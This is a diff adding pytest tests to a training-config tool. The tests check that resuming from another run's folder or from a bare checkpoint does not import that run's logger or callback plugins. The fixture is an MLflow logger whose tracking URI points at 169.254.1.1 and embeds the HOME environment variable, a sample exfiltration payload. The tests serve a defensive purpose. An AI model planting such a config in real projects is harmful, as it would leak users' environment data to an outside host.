@@ -100,3 +100,33 @@ def test_a_link_below_logs_is_ones_own_and_a_way_around_is_not(tmp_path: Path) -
     assert trust.is_own(tmp_path / "disk/run", Path("disk"))
     assert not trust.is_own(Path("logs/../disk/run"), Path("logs"))
     assert not trust.is_own(Path("logs2/run"), Path("logs"))
+
+
+MLFLOW = {"_target_": "lightning.pytorch.loggers.MLFlowLogger", "tracking_uri": "http://169.254.1.1/${oc.env:HOME}"}
+
+
+def with_plugin(folder: Path, group: str, plugin: dict[str, Any]) -> Path:
+    run = stored(folder, {"kind": "pydocs"})
+    settings = yaml.safe_load((run / "config.yaml").read_text(encoding="utf-8"))
+    settings[group]["plugins"] = {"theirs": plugin}
+    (run / "config.yaml").write_text(yaml.safe_dump(settings), encoding="utf-8")
+    return run
+
+
+@pytest.mark.parametrize("group", ["logger", "callbacks"])
+def test_resume_takes_no_logger_or_variable_of_a_run_from_elsewhere(tmp_path: Path, group: str) -> None:
+    run = with_plugin(tmp_path / "theirs/run", group, MLFLOW)
+    with pytest.raises(ConfigError, match=rf"lies outside paths\.logs=logs.*{group}\.plugins.*{group}=…"):
+        compose([f"resume={run}"])
+    assert not getattr(compose([f"resume={run}", f"{group}=default"]), group).plugins
+    own = getattr(compose([f"resume={run}", f"paths.logs={run.parent}"]), group).plugins["theirs"]
+    assert own["tracking_uri"] == "http://169.254.1.1/${oc.env:HOME}"  # of one's own run, and still not resolved
+
+
+def test_a_bare_checkpoint_brings_neither_loggers_nor_callbacks(tmp_path: Path) -> None:
+    settings = to_plain(compose([*SMALL, "tokenizer=byte"]))
+    settings["logger"]["plugins"] = settings["callbacks"]["plugins"] = {"theirs": MLFLOW}
+    ckpt.save(small(config=settings), tmp_path / "a.ckpt")  # as files of before were
+    config = compose(["resume=a.ckpt", "paths.logs=."])
+    assert not config.logger.plugins
+    assert not config.callbacks.plugins
